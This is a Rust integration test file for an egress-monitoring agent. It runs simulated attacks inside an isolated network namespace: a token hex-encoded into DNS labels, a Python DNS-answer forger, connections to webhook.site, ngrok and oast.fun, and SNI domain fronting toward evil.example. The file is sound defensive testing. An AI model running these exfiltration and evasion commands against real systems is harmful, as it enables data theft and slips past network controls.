//! Egress by name: real DNS (dnsmasq) in a network namespace made for the test, job processes
//! resolving and connecting inside it, and the agent attributing each connection to the name it
//! was resolved from. Nothing leaves the machine: the namespace has only its loopback.

use std::{
    path::PathBuf,
    process::{Child, Command, Stdio},
    sync::{Mutex, MutexGuard},
};

use integration_tests::{by_rule, delete_netns, make_netns, Agent, FakeRunner, Value, MARKER_STEP};

/// One test at a time: every agent judges every job on the machine with its own profile, so the
/// block-mode test's agent would refuse the other tests' connections too.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

fn one_at_a_time() -> MutexGuard<'static, ()> {
    ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner())
}

/// A network namespace with addresses on its loopback, a DNS server answering the test's names,
/// and a TCP sink on port 8080 (IPv4 and IPv6). Removed on drop.
struct DnsLab {
    ns: String,
    dnsmasq: Child,
    sink: Child,
    /// Port 8443: logs (hex, a line per connection) the first bytes each connection sends: a
    /// TLS hello arrived, and which name it asked for.
    hello_sink: Child,
    hello_log: PathBuf,
    /// dnsmasq's query log: proof a question reached the resolver.
    query_log: PathBuf,
    _dir: tempfile::TempDir,
}

impl DnsLab {
    fn start() -> Self {
        let ns = make_netns(
            "mon-dns",
            &[
                "10.77.0.1/32",
                "10.77.0.2/32",
                "10.77.0.3/32",
                "10.77.0.4/32",
                "10.77.0.5/32",
                "10.77.0.9/32",
                "10.77.0.6/32",
                "10.77.0.7/32",
                "fd77::1/128",
                "fd77::2/128",
            ],
        );
        // `ip netns exec` bind-mounts this over /etc/resolv.conf for what runs in the namespace.
        std::fs::create_dir_all(format!("/etc/netns/{ns}")).unwrap();
        std::fs::write(
            format!("/etc/netns/{ns}/resolv.conf"),
            "nameserver 127.0.0.1\n",
        )
        .unwrap();
        let dir = tempfile::tempdir().unwrap();
        let query_log = dir.path().join("queries.log");
        let dnsmasq = Command::new("ip")
            .args([
                "netns",
                "exec",
                &ns,
                "dnsmasq",
                "--keep-in-foreground",
                "--no-resolv",
                "--no-hosts",
            ])
            .args([
                // A second resolver address: stubs that ask every nameserver at once (musl).
                "--listen-address=127.0.0.1,10.77.0.7",
                "--bind-interfaces",
                "--cache-size=0",
                "--log-queries",
            ])
            .arg(format!("--log-facility={}", query_log.display()))
            .args([
                "--address=/allowed.test/10.77.0.1",
                "--address=/denied.test/10.77.0.2",
                "--address=/tcpname.test/10.77.0.4",
                "--address=/v6.test/fd77::1",
                "--address=/allowed6.test/fd77::1",
                "--address=/blocked6.test/fd77::2",
                "--host-record=edge.cdn-allowed.test,10.77.0.3",
                "--cname=www.alias.test,edge.cdn-allowed.test",
                "--host-record=edge.cdn-other.test,10.77.0.5",
                "--cname=www.badalias.test,edge.cdn-other.test",
                "--address=/exfil.test/10.77.0.9",
                "--address=/tunnel.test/10.77.0.9",
                // Known exfiltration services, answered by the lab: nothing leaves.
                "--address=/webhook.site/10.77.0.6",
                "--host-record=x7.ngrok-free.app,10.77.0.6",
                "--cname=build-cache.innocent.test,x7.ngrok-free.app",
                "--address=/oast.fun/10.77.0.6",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("dnsmasq (Debian's dnsmasq-base; `cargo xtask setup` installs it)");
        let sink = Command::new("ip")
            .args(["netns", "exec", &ns, "python3", "-c"])
            .arg(
                "import socket\n\
                 s=socket.create_server(('::',8080),family=socket.AF_INET6,dualstack_ipv6=True)\n\
                 while True:\n    c,_=s.accept(); c.close()\n",
            )
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let hello_log = dir.path().join("hellos.log");
        let hello_sink = Command::new("ip")
            .args(["netns", "exec", &ns, "python3", "-c"])
            .arg(format!(
                "import socket\n\
                 s=socket.create_server(('::',8443),family=socket.AF_INET6,dualstack_ipv6=True)\n\
                 while True:\n    c,_=s.accept(); c.settimeout(2)\n    \
                 try:\n        d=c.recv(4096)\n    except Exception:\n        d=b''\n    \
                 open('{}','a').write(d.hex()+'\\n'); c.close()\n",
                hello_log.display()
            ))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut lab = DnsLab {
            hello_sink,
            hello_log,
            ns,
            dnsmasq,
            sink,
            query_log,
            _dir: dir,
        };
        // Ready when the DNS server answers and the sink accepts (generous: CI machines are
        // busy while the other tests run).
        let mut last = String::new();
        for _ in 0..300 {
            let out = Command::new("ip")
                .args(["netns", "exec", &lab.ns, "bash", "-c"])
                .arg("getent hosts allowed.test && exec 3<>/dev/tcp/127.0.0.1/8080")
                .output()
                .unwrap();
            if out.status.success() {
                return lab;
            }
            last = format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let dnsmasq = lab.dnsmasq.try_wait().unwrap();
        let sink = lab.sink.try_wait().unwrap();
        panic!("the lab in {} never answered (dnsmasq exited: {dnsmasq:?}, sink exited: {sink:?}); last try: {last}", lab.ns);
    }

    /// A shell command run inside the namespace (as a job's step would, through `ip netns exec`).
    fn sh(&self, command: &str) -> String {
        format!("ip netns exec {} bash -c '{}'\n", self.ns, command)
    }
}

impl Drop for DnsLab {
    fn drop(&mut self) {
        let _ = self.dnsmasq.kill();
        let _ = self.sink.kill();
        let _ = self.hello_sink.kill();
        let _ = self.hello_sink.wait();
        let _ = self.dnsmasq.wait();
        let _ = self.sink.wait();
        delete_netns(&self.ns);
    }
}

/// The lab's second resolver address is one the job may ask (the machine's own resolvers are
/// allowed without saying so; the lab's are not the machine's).
const PROFILE: &str =
    "version: 1\negress:\n  allow:\n    - allowed.test:8080\n    - \"*.cdn-allowed.test:8080\"\n    - \"10.77.0.7:53\"\n";

fn egress_to<'a>(findings: &'a [Value], port_step: &str) -> Vec<&'a Value> {
    by_rule(findings, "unexpected-egress")
        .into_iter()
        .filter(|f| f["step"]["id"] == port_step)
        .collect()
}

#[test]
fn connections_are_judged_by_the_name_they_were_resolved_from() {
    let _serial = one_at_a_time();
    let agent = Agent::start_with_profile(PROFILE);
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    let connect = |host: &str| lab.sh(&format!("exec 3<>/dev/tcp/{host}/8080; exec 3>&-"));
    runner.run_job(&[
        ("allowed", &connect("allowed.test")),
        ("denied", &connect("denied.test")),
        ("direct", &connect("10.77.0.9")),
        (
            "tcp",
            &format!("RES_OPTIONS=use-vc {}", connect("tcpname.test")),
        ),
        ("v6", &connect("v6.test")),
        ("alias", &connect("www.alias.test")),
        ("badalias", &connect("www.badalias.test")),
        MARKER_STEP,
    ]);
    let mine = agent.findings_through_marker(&runner);
    let show = || format!("{mine:#?}");

    assert!(
        egress_to(&mine, "allowed").is_empty(),
        "an allowed domain connects: {}",
        show()
    );
    assert!(
        egress_to(&mine, "alias").is_empty(),
        "allowed through its CNAME: {}",
        show()
    );

    let denied = egress_to(&mine, "denied");
    assert_eq!(denied.len(), 1, "{}", show());
    assert_eq!(denied[0]["evidence"]["domain"], "denied.test");
    assert_eq!(denied[0]["evidence"]["address"], "10.77.0.2");
    assert!(denied[0]["summary"]
        .as_str()
        .unwrap()
        .contains("denied.test"));
    assert_eq!(
        denied[0]["allowance"]["domain"], "denied.test",
        "learn writes the name, not the IP"
    );

    let direct = egress_to(&mine, "direct");
    assert_eq!(direct[0]["evidence"]["resolved"], false);
    assert!(direct[0]["summary"]
        .as_str()
        .unwrap()
        .contains("never resolved"));

    let tcp = egress_to(&mine, "tcp");
    assert_eq!(
        tcp[0]["evidence"]["domain"],
        "tcpname.test",
        "DNS over TCP attributed: {}",
        show()
    );

    let v6 = egress_to(&mine, "v6");
    assert_eq!(
        (
            v6[0]["evidence"]["domain"].as_str(),
            v6[0]["evidence"]["address"].as_str()
        ),
        (Some("v6.test"), Some("fd77::1"))
    );

    let bad = egress_to(&mine, "badalias");
    assert_eq!(
        bad[0]["evidence"]["domain"], "www.badalias.test",
        "named by what was asked"
    );
    assert_eq!(bad[0]["evidence"]["cname_chain"][0], "edge.cdn-other.test");

    // The answers themselves are in the event log, with the transport.
    let events = agent.events();
    let answer = |name: &str| {
        events
            .iter()
            // Answers, not the questions that went out before them.
            .find(|e| e["kind"] == "dns" && e["question"] == name && e["sent"] != true)
            .cloned()
    };
    assert_eq!(
        answer("tcpname.test").expect("tcp answer")["transport"],
        "tcp"
    );
    assert_eq!(
        answer("www.alias.test").expect("alias answer")["answers"][0]["type"],
        "CNAME"
    );
    drop(lab);
}

#[test]
fn data_carrying_dns_queries_are_flagged_without_writing_the_data_down() {
    let _serial = one_at_a_time();
    let agent = Agent::start_with_profile(PROFILE);
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    // A token, hex-encoded into a label (as DNS exfiltration tools do), and a tunnel's burst of
    // unique names; getent resolves without connecting.
    let secret_hex = "6768705f43346e3472794768433e6e3472794768433";
    runner.run_job(&[
        (
            "label",
            &lab.sh(&format!(
                "getent hosts {secret_hex}.a.exfil.test >/dev/null || true"
            )),
        ),
        (
            "burst",
            &lab.sh(
                "for i in $(seq 1 80); do getent hosts q$i.tunnel.test >/dev/null || true; done",
            ),
        ),
        (
            "benign",
            &lab.sh("getent hosts allowed.test >/dev/null; getent hosts www.alias.test >/dev/null"),
        ),
        MARKER_STEP,
    ]);
    let mine = agent.findings_through_marker(&runner);
    let exfil = by_rule(&mine, "dns-exfiltration");
    let label = exfil
        .iter()
        .find(|f| f["step"]["id"] == "label")
        .unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(label["evidence"]["zone"], "exfil.test");
    let burst = exfil
        .iter()
        .find(|f| f["step"]["id"] == "burst")
        .unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(burst["evidence"]["zone"], "tunnel.test");
    assert!(
        exfil.iter().all(|f| f["step"]["id"] != "benign"),
        "{exfil:#?}"
    );
    // The finding names the zone and the label's size, not its content. (The command line in
    // the process chain and the event log keep what ran, as for any command: the forensic
    // record of a secret that already left.)
    for f in &exfil {
        let said = format!("{}{}", f["summary"], f["evidence"]);
        assert!(
            !said.contains(secret_hex),
            "the encoded data is repeated in {said}"
        );
    }
    assert!(label["evidence"]["query"]
        .as_str()
        .unwrap()
        .contains("chars)"));
    drop(lab);
}

/// Block mode: with the runner's hooks anchoring the job at the Worker, the job's processes may
/// connect only where the profile allows (names allowed through their DNS answers, as they
/// arrive); everything else is refused with EPERM and reported as blocked. DNS, loopback and the
/// Worker's own traffic keep working.
#[test]
fn block_mode_refuses_what_the_profile_does_not_allow() {
    let _serial = one_at_a_time();
    let profile = "version: 1\negress:\n  mode: block\n  allow:\n    - allowed.test:8080\n    - allowed6.test:8080\n";
    let agent = Agent::start_with_profile(profile);
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    let attempt = |host: &str, tag: &str| {
        format!("(exec 3<>/dev/tcp/{host}/8080) 2>/dev/null && echo CONNECTED-{tag} || echo REFUSED-{tag}\n")
    };
    // The whole runner runs in the lab's namespace. The Worker's own connection is made by the
    // Worker process itself (no subshell): the runner's traffic is not the job's.
    let out = runner.run_job_in(
        Some(&lab.ns),
        &[
            (
                "@worker",
                "exec 3<>/dev/tcp/denied.test/8080 && echo CONNECTED-worker; exec 3>&-",
            ),
            ("allowed", &attempt("allowed.test", "allowed")),
            ("allowed6", &attempt("allowed6.test", "allowed6")),
            // The answer over TCP (glibc's use-vc): allowed as it arrives, like a UDP one.
            (
                "allowed-tcp",
                &format!(
                    "RES_OPTIONS=use-vc bash -c '{}'",
                    attempt("allowed.test", "allowed-tcp").trim_end()
                ),
            ),
            ("denied", &attempt("denied.test", "denied")),
            ("direct", &attempt("10.77.0.9", "direct")),
            ("v6", &attempt("blocked6.test", "v6")),
            ("loopback", &attempt("127.0.0.1", "loopback")),
            (
                "dns",
                "getent hosts denied.test >/dev/null && echo RESOLVED-denied\n",
            ),
            // Unconnected UDP sends (no connect(2) at all): refused to an unallowed address,
            // fine to loopback.
            ("udp", &udp_send("10.77.0.9", "udp")),
            ("udp-loopback", &udp_send("127.0.0.1", "loopback-udp")),
        ],
        Some(&agent.control_socket),
    );
    for expected in [
        "SENT-loopback-udp",
        "CONNECTED-worker",
        "CONNECTED-allowed",
        "CONNECTED-allowed6",
        "CONNECTED-allowed-tcp",
        "REFUSED-denied",
        "REFUSED-direct",
        "REFUSED-v6",
        "CONNECTED-loopback",
        "RESOLVED-denied",
        "REFUSED-udp",
    ] {
        assert!(
            out.contains(expected),
            "{expected} missing from the job's output:\n{out}\nagent log:\n{}",
            agent.log()
        );
    }
    let all = agent.wait_for_findings("the blocked connections", |all| {
        let mine = runner.findings_of(all);
        ["denied", "direct", "v6"]
            .iter()
            .all(|s| !egress_to(&mine, s).is_empty())
    });
    let mine = runner.findings_of(&all);
    let denied = egress_to(&mine, "denied");
    assert_eq!(denied[0]["evidence"]["blocked"], true);
    assert_eq!(denied[0]["evidence"]["domain"], "denied.test");
    assert!(denied[0]["summary"]
        .as_str()
        .unwrap()
        .starts_with("blocked connection to denied.test"));
    assert_eq!(egress_to(&mine, "direct")[0]["evidence"]["blocked"], true);
    for step in ["allowed", "allowed6", "allowed-tcp"] {
        assert!(egress_to(&mine, step).is_empty(), "{step}: {mine:#?}");
    }
    // The allowed-tcp step's answer really came over TCP (and was allowed in the kernel from
    // it): no other step asks over TCP.
    let events = agent.events();
    assert!(
        events.iter().any(|e| e["kind"] == "dns"
            && e["question"] == "allowed.test"
            && e["sent"] != true
            && e["transport"] == "tcp"),
        "no TCP answer for allowed.test in the allowed-tcp step: {:#?}",
        events
            .iter()
            .filter(|e| e["kind"] == "dns" && e["question"] == "allowed.test")
            .collect::<Vec<_>>()
    );
    // Loopback is never blocked; the profile does not list it, so it is still reported.
    let loopback = egress_to(&mine, "loopback");
    assert_eq!(loopback[0]["evidence"]["blocked"], false, "{loopback:?}");
    drop(lab);
}

/// A step that sends one UDP datagram with sendto(2), printing SENT-tag or REFUSED-tag.
fn udp_send(address: &str, tag: &str) -> String {
    format!(
        "python3 -c \"import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{address}', 5353))\n    print('SENT-{tag}')\nexcept PermissionError:\n    print('REFUSED-{tag}')\"\n"
    )
}

/// Questions are judged as they leave, whatever reads (or does not read) the answer: a process
/// that sends a data-carrying query and closes its socket without reading, and one that spreads
/// the data over short labels. The resolver's log proves each question reached it.
#[test]
fn questions_are_judged_even_when_no_answer_is_read() {
    let _serial = one_at_a_time();
    let agent = Agent::start_with_profile(PROFILE);
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    // A DNS query built by hand, sent with sendto to the lab's resolver; nothing is read.
    let script = runner.workspace.join("query.py");
    std::fs::write(
        &script,
        "import socket, struct, sys\n\
         name = sys.argv[1]\n\
         q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n\
         m = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1)\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.sendto(m, ('127.0.0.1', 53))\n\
         s.close()\n",
    )
    .unwrap();
    let send_query =
        |name: &str| lab.sh(&format!("python3 {} {name}; sleep 0.3", script.display()));
    let unread = "7365637265742d746f6b656e2d636f6e74656e7473.unread.exfil.test";
    let split = "736563726574.2d746f6b656e.2d636f6e7465.6e7473303132.split.test";
    runner.run_job(&[
        ("unread", &send_query(unread)),
        ("split", &send_query(split)),
        ("benign", &send_query("allowed.test")),
        MARKER_STEP,
    ]);
    // The questions reached the resolver.
    let log = std::fs::read_to_string(&lab.query_log).unwrap_or_default();
    for name in [unread, split, "allowed.test"] {
        assert!(
            log.contains(name),
            "{name} not in the resolver's log:\n{log}"
        );
    }
    let mine = agent.findings_through_marker(&runner);
    let exfil = by_rule(&mine, "dns-exfiltration");
    let in_step = |step: &str| exfil.iter().find(|f| f["step"]["id"] == step).copied();
    let unread_finding = in_step("unread").unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(unread_finding["evidence"]["zone"], "exfil.test");
    let split_finding = in_step("split").unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(split_finding["evidence"]["zone"], "split.test");
    assert_eq!(split_finding["evidence"]["labels"], 4, "{split_finding:#}");
    assert!(in_step("benign").is_none(), "{exfil:#?}");
    // The questions were events of their own (no answer was read).
    let sent: Vec<Value> = agent
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "dns" && e["sent"] == true)
        .collect();
    assert!(
        sent.iter().any(|e| e["question"] == unread),
        "no question event for {unread}"
    );
    drop(lab);
}

/// A forged answer: a second local socket of the job sends the asking socket a response saying
/// `allowed.test` is 10.77.0.9 (no root needed), either before the question leaves (it is then
/// first in the socket's queue, ahead of the resolver's answer) or after a question sent to an
/// address where no resolver listens (nothing else ever answers). The job reads it and
/// connects there. The answer is reported as forged and not learnt, so the connection is judged
/// as a direct-IP one; the honest twin asks the same way, gets the resolver's answer and stays
/// quiet.
#[test]
fn a_forged_answer_does_not_make_a_destination_allowed() {
    let _serial = one_at_a_time();
    let agent = Agent::start_with_profile(PROFILE);
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    let script = runner.workspace.join("forge.py");
    std::fs::write(
        &script,
        "import socket, struct, sys\n\
         name, forge, when, resolver = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]\n\
         def qname(n):\n    return b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\\0'\n\
         qid = 0x4242\n\
         query = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + qname(name) + struct.pack('>HH', 1, 1)\n\
         a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         a.bind(('127.0.0.1', 0))\n\
         def forge_answer():\n    \
             b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    \
             answer = struct.pack('>HHIH', 1, 1, 300, 4) + socket.inet_aton(forge)\n    \
             b.sendto(struct.pack('>HHHHHH', qid, 0x8180, 1, 1, 0, 0) + qname(name) + struct.pack('>HH', 1, 1) + b'\\xc0\\x0c' + answer, a.getsockname())\n\
         if forge != '-' and when == 'before':\n    forge_answer()\n\
         a.sendto(query, (resolver, 53))\n\
         if forge != '-' and when == 'after':\n    forge_answer()\n\
         data, source = a.recvfrom(4096)\n\
         ip = socket.inet_ntoa(data[-4:])\n\
         print('RESOLVED', name, ip, source)\n\
         socket.create_connection((ip, 8080), timeout=5).close()\n\
         print('CONNECTED', ip)\n",
    )
    .unwrap();
    let run = |forge: &str, when: &str, resolver: &str| {
        lab.sh(&format!(
            "python3 {} allowed.test {forge} {when} {resolver}",
            script.display()
        ))
    };
    // 10.77.0.5: an address of the lab where no resolver listens.
    // The honest twin of asking twice: one socket sends the same question (same id) to both of
    // the lab's resolver addresses and reads both answers, as musl's stub does with several
    // nameservers.
    let both = runner.workspace.join("both.py");
    std::fs::write(
        &both,
        "import socket, struct\n\
         q = b''.join(bytes([len(l)]) + l.encode() for l in 'allowed.test'.split('.')) + b'\\0'\n\
         m = struct.pack('>HHHHHH', 0x5151, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1)\n\
         a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         a.settimeout(5)\n\
         for server in ('127.0.0.1', '10.77.0.7'):\n    a.sendto(m, (server, 53))\n\
         for _ in range(2):\n    data, source = a.recvfrom(4096)\n    print('ANSWER', source[0], socket.inet_ntoa(data[-4:]))\n\
         socket.create_connection((socket.inet_ntoa(data[-4:]), 8080), timeout=5).close()\n\
         print('CONNECTED-BOTH')\n",
    )
    .unwrap();
    let output = runner.run_job(&[
        ("honest", &run("-", "-", "127.0.0.1")),
        (
            "two-resolvers",
            &lab.sh(&format!("python3 {}", both.display())),
        ),
        ("forged", &run("10.77.0.9", "before", "127.0.0.1")),
        ("forged-late", &run("10.77.0.9", "after", "10.77.0.5")),
        MARKER_STEP,
    ]);
    // The attack happened: the forged address was read and connected to, twice.
    assert_eq!(
        output.matches("RESOLVED allowed.test 10.77.0.9").count(),
        2,
        "{output}"
    );
    assert_eq!(output.matches("CONNECTED 10.77.0.9").count(), 2, "{output}");
    assert!(output.contains("CONNECTED 10.77.0.1"), "{output}");
    assert!(output.contains("ANSWER 127.0.0.1 10.77.0.1"), "{output}");
    assert!(output.contains("ANSWER 10.77.0.7 10.77.0.1"), "{output}");
    assert!(output.contains("CONNECTED-BOTH"), "{output}");
    let mine = agent.findings_through_marker(&runner);
    let in_step =
        |step: &str| -> Vec<&Value> { mine.iter().filter(|f| f["step"]["id"] == step).collect() };
    assert!(in_step("honest").is_empty(), "{mine:#?}");
    assert!(in_step("two-resolvers").is_empty(), "{mine:#?}");
    for step in ["forged", "forged-late"] {
        let forged = in_step(step);
        let answer = forged
            .iter()
            .find(|f| f["rule"] == "dns-forged-answer")
            .unwrap_or_else(|| panic!("{step}: {mine:#?}"));
        assert_eq!(answer["evidence"]["addresses"][0], "10.77.0.9");
        let egress = forged
            .iter()
            .find(|f| f["rule"] == "unexpected-egress" && f["evidence"]["address"] == "10.77.0.9")
            .unwrap_or_else(|| {
                panic!("{step}: the connection to the forged address passed: {mine:#?}")
            });
        assert_eq!(egress["evidence"]["resolved"], false, "{egress:#}");
    }
    drop(lab);
}

/// Answers are taken from the packet, however the process reads them: a resolver stub that
/// reads its answer with io_uring (`IORING_OP_RECV`, no read syscall at all) connects to the
/// allowed name's address, and the connection is judged by that name (quiet); the resolver's
/// log proves the question was asked. Before answers were taken from the packet, this answer
/// was never seen and the connection was reported as one to a bare address.
#[test]
fn answers_read_through_io_uring_are_learnt() {
    let _serial = one_at_a_time();
    let agent = Agent::start_with_profile(PROFILE);
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    let helper = integration_tests::build_fixture(&runner.workspace, "egress/egress.c", "egress");
    let output = runner.run_job(&[
        (
            "uring-read",
            &lab.sh(&format!(
                "{} uring-resolve 127.0.0.1 53 allowed.test",
                helper.display()
            )),
        ),
        (
            "uring-denied",
            &lab.sh(&format!(
                "{} uring-resolve 127.0.0.1 53 denied.test",
                helper.display()
            )),
        ),
        MARKER_STEP,
    ]);
    assert!(
        output.contains("RESOLVED allowed.test 10.77.0.1"),
        "{output}"
    );
    assert!(
        output.contains("RESOLVED denied.test 10.77.0.2"),
        "{output}"
    );
    assert_eq!(output.matches("SENT-uring-resolve").count(), 2, "{output}");
    let log = std::fs::read_to_string(&lab.query_log).unwrap_or_default();
    assert!(log.contains("allowed.test"), "{log}");
    let mine = agent.findings_through_marker(&runner);
    assert!(egress_to(&mine, "uring-read").is_empty(), "{mine:#?}");
    // The twin that shows the names were learnt: the other name's connection is reported by
    // that name, not as a bare address.
    let denied = egress_to(&mine, "uring-denied");
    let denied = denied
        .first()
        .unwrap_or_else(|| panic!("no finding for denied.test: {mine:#?}"));
    assert_eq!(denied["evidence"]["domain"], "denied.test", "{denied:#}");
    assert_eq!(denied["evidence"]["resolved"], true, "{denied:#}");
    drop(lab);
}

/// Services that take data from anyone are reported whatever the allowlist says: the profile
/// allows every address, and a step uploads to a request bin, another reaches a tunnel through an
/// innocent-looking CNAME, a third only asks DNS for a name under an out-of-band collector (the
/// question is the upload). The lab's sink and resolver log prove each really happened; the
/// twin connects to an ordinary name under the same allowlist and stays quiet.
#[test]
fn known_exfiltration_services_are_reported_whatever_the_allowlist_says() {
    let _serial = one_at_a_time();
    let agent =
        Agent::start_with_profile("version: 1\negress:\n  allow: [\"0.0.0.0/0\", \"::/0\"]\n");
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    let out = runner.dir.path().join("reached");
    let connect = |host: &str, tag: &str| {
        lab.sh(&format!(
            "exec 3<>/dev/tcp/{host}/8080 && echo {tag} >> {}; exec 3>&-",
            out.display()
        ))
    };
    let oast = "c0ffee5ecret.oast.fun";
    runner.run_job(&[
        ("bin", &connect("abc123.webhook.site", "bin")),
        ("alias", &connect("build-cache.innocent.test", "alias")),
        ("oast", &lab.sh(&format!("getent hosts {oast} || true"))),
        ("twin", &connect("allowed.test", "twin")),
        MARKER_STEP,
    ]);
    // The attacks happened: the connections were accepted, the question reached the resolver.
    let reached = std::fs::read_to_string(&out).unwrap_or_default();
    for tag in ["bin", "alias", "twin"] {
        assert!(
            reached.lines().any(|l| l == tag),
            "{tag} did not connect: {reached:?}"
        );
    }
    let log = std::fs::read_to_string(&lab.query_log).unwrap_or_default();
    assert!(
        log.contains(oast),
        "{oast} not in the resolver's log:\n{log}"
    );

    let mine = agent.findings_through_marker(&runner);
    let exfil = by_rule(&mine, "known-exfil-service");
    let in_step = |step: &str| {
        exfil
            .iter()
            .find(|f| f["step"]["id"] == step)
            .copied()
            .unwrap_or_else(|| panic!("no known-exfil-service in {step}: {mine:#?}"))
    };
    let bin = in_step("bin");
    assert_eq!(bin["severity"], "critical");
    assert_eq!(bin["evidence"]["service"], "webhook.site");
    assert_eq!(bin["evidence"]["address"], "10.77.0.6");
    let alias = in_step("alias");
    assert_eq!(alias["evidence"]["service_kind"], "tunnel");
    assert_eq!(alias["evidence"]["domain"], "build-cache.innocent.test");
    assert_eq!(alias["evidence"]["matched_name"], "x7.ngrok-free.app");
    assert_eq!(in_step("oast")["evidence"]["via"], "dns-question");
    // The allowlist's own destinations are quiet, and no exfiltration is doubled as egress.
    assert!(
        !mine.iter().any(|f| f["step"]["id"] == "twin"),
        "the twin raised: {mine:#?}"
    );
    assert!(by_rule(&mine, "unexpected-egress").is_empty(), "{mine:#?}");
    drop(lab);
}

/// Domain fronting and hard-coded tunnels, by the name the TLS hello asks for: curl connects to
/// the allowed name's address but asks for another site (`--connect-to`), and to the same
/// address asking for a tunnel service. The lab's server logs each hello (proof the name went
/// out). The honest twin asks for the name it resolved and stays quiet.
#[test]
fn tls_hellos_asking_for_another_name_than_the_address_came_from_are_reported() {
    let _serial = one_at_a_time();
    let agent =
        Agent::start_with_profile("version: 1\negress:\n  allow: [\"allowed.test:8443\"]\n");
    let lab = DnsLab::start();
    let runner = FakeRunner::new();
    let curl = |name: &str| {
        lab.sh(&format!(
            "curl -sk --max-time 5 --connect-to {name}:8443:allowed.test:8443 https://{name}:8443/ >/dev/null; true"
        ))
    };
    // A hard-coded address (no DNS): reported with the name its hello asks for.
    let pinned = |name: &str| {
        lab.sh(&format!(
            "curl -sk --max-time 5 --connect-to {name}:8443:10.77.0.6:8443 https://{name}:8443/ >/dev/null; true"
        ))
    };
    runner.run_job(&[
        ("front", &curl("evil.example")),
        ("tunnel", &curl("x7.trycloudflare.com")),
        ("honest", &curl("allowed.test")),
        ("pinned", &pinned("allowed.test")),
        ("pinned-other", &pinned("unlisted.example")),
        MARKER_STEP,
    ]);
    // The hellos went out, naming what they asked for.
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02x}")).collect::<String>();
    let log = std::fs::read_to_string(&lab.hello_log).unwrap_or_default();
    for name in [
        "evil.example",
        "x7.trycloudflare.com",
        "allowed.test",
        "unlisted.example",
    ] {
        assert!(
            log.contains(&hex(name)),
            "no hello for {name} reached the server:\n{log}"
        );
    }
    let mine = agent.findings_through_marker(&runner);
    let fronted = by_rule(&mine, "sni-mismatch");
    let front = fronted
        .iter()
        .find(|f| f["step"]["id"] == "front")
        .unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(front["evidence"]["server_name"], "evil.example");
    assert_eq!(front["evidence"]["resolved_as"][0], "allowed.test");
    let tunnel = by_rule(&mine, "known-exfil-service")
        .into_iter()
        .find(|f| f["step"]["id"] == "tunnel")
        .unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(tunnel["evidence"]["via"], "tls-sni");
    assert!(
        !mine.iter().any(|f| f["step"]["id"] == "honest"),
        "the honest client raised: {mine:#?}"
    );
    // A hard-coded address asking for an allowed name: any server answers to any name, so
    // reported, lower.
    let pinned = by_rule(&mine, "unexpected-egress")
        .into_iter()
        .find(|f| f["step"]["id"] == "pinned")
        .unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(pinned["severity"], "medium");
    assert_eq!(pinned["evidence"]["server_name"], "allowed.test");
    let other = by_rule(&mine, "unexpected-egress")
        .into_iter()
        .find(|f| f["step"]["id"] == "pinned-other")
        .unwrap_or_else(|| panic!("{mine:#?}"));
    assert_eq!(other["evidence"]["server_name"], "unlisted.example");
    assert_eq!(other["evidence"]["resolved"], false);
    // The server names are events of their own.
    assert!(agent
        .events()
        .iter()
        .any(|e| e["kind"] == "tls" && e["server_name"] == "allowed.test"));
    drop(lab);
}
